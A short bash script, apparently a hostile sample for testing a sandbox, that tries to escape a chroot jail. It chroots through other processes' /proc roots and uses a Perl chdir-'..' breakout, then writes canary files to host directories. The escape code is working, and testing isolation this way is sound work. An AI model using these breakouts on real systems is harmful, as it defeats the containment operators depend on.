#!/usr/bin/env bash
# Climbs out of a root of its own: the old trick with chroot, the roots of other processes, and bound directories.
mkdir -p /tmp/cell/cell
cp -P /bin /lib /lib64 /tmp/cell 2> /dev/null
for process in /proc/[0-9]*; do
  for way in root root/.. root/../.. cwd/../../../../.. ; do
    chroot "$process/$way" /bin/sh -c 'echo canary > /lab-check-hostile-canary; echo canary > /root/lab-check-hostile-canary; echo canary > /home/lab-check-hostile-canary'
  done
done
command -v perl > /dev/null && perl -e 'mkdir "/tmp/cell"; opendir(D, "/"); chroot "/tmp/cell"; chdir ".." for 1 .. 100; chroot "."; open(F, ">", "/home/lab-check-hostile-canary"); chdir "/" and open(F, ">", "/var/tmp/lab-check-hostile-canary")'
exit 0
